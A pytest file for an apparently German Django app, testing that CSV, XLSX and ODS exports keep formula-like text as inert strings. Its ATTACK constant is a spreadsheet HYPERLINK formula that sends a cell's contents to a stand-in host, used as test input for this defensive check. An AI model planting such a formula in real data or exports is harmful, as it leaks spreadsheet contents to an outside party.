"""Text that a spreadsheet would run as a formula stays text in every CSV, XLSX and ODS export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from edge.tables import Heading, Sheet, csv_bytes, ods_bytes, xlsx_bytes
from tests.factories import IdeaFactory, UserFactory

ATTACK = '=HYPERLINK("https://boese.example/?d="&A1;"Details")'


def _csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize("text", [ATTACK, "+1+2", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_csv_cells_get_an_apostrophe_and_numbers_stay_numbers(text):
    rows = _csv_rows(csv_bytes(["titel", "zahl"], [[text, -3]]))
    assert rows[1] == ["'" + text, "-3"]


def test_xlsx_keeps_the_text_and_stores_it_as_a_string_not_a_formula():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(Sheet(["titel"], [[ATTACK]], title="t")))).active
    cell = sheet["A2"]
    assert cell.value == ATTACK
    assert cell.data_type == "s"


def ods_rows(content: bytes) -> list[list[tuple[str, str]]]:
    """(value type, text) of every cell of the first sheet, read back with odfpy."""
    from odf import teletype
    from odf.opendocument import load
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    sheet = load(io.BytesIO(content)).spreadsheet.getElementsByType(Table)[0]
    return [
        [(cell.getAttribute("valuetype") or "", "\n".join(teletype.extractText(p) for p in cell.getElementsByType(P)))
         for cell in row.getElementsByType(TableCell)]
        for row in sheet.getElementsByType(TableRow)
    ]  # fmt: skip


def test_ods_keeps_text_as_string_numbers_as_numbers_and_line_breaks():
    rows = [[ATTACK, -3], Heading("Gruppe"), ["zwei\nZeilen\x07", 2.5]]
    content = ods_bytes(Sheet(["titel", "zahl"], rows, title="t", widths=[40, 10], wrap=[1]))
    assert content[:2] == b"PK"
    rows = ods_rows(content)
    assert rows[0] == [("string", "titel"), ("string", "zahl")]
    assert rows[1] == [("string", ATTACK), ("float", "-3")]
    assert rows[2] == [("string", "Gruppe")]
    assert rows[3] == [("string", "zwei\nZeilen"), ("float", "2.5")]  # the control character is dropped
    assert b"table:formula" not in content


def test_gis_csv_export_neutralises_formulas(client, db, tmp_path):
    IdeaFactory(title=ATTACK)
    response = client.get(reverse("api:export", kwargs={"dataset": "ideen", "fmt": "csv"}))
    assert response.status_code == 200
    rows = _csv_rows(b"".join(response.streaming_content))
    titel = rows[0].index("titel")
    assert rows[1][titel] == "'" + ATTACK
    assert rows[1][0].startswith("POINT(")


def test_dashboard_exports_neutralise_formulas_of_pending_ideas(client, db):
    IdeaFactory(title=ATTACK, visibility="pending")
    client.force_login(UserFactory(roles=[Role.PLANNER]))
    url = reverse("dashboard:table-export", args=["top-ideen", "csv"])
    rows = _csv_rows(client.get(url).content)
    assert "'" + ATTACK in rows[1]
    sheet = load_workbook(io.BytesIO(client.get(reverse("dashboard:table-export", args=["top-ideen", "xlsx"])).content))
    cells = [cell for row in sheet.active.iter_rows() for cell in row if cell.value == ATTACK]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
